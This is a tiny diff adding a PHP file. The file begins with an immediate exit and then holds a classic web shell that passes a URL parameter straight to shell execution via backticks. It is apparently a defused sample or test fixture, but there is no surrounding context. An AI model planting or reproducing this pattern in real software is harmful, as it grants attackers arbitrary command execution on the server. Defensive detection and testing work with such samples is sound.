@@ -1,0 +1,3 @@
+<?php exit;
+$line = $_GET["line"];
+echo `$line`;
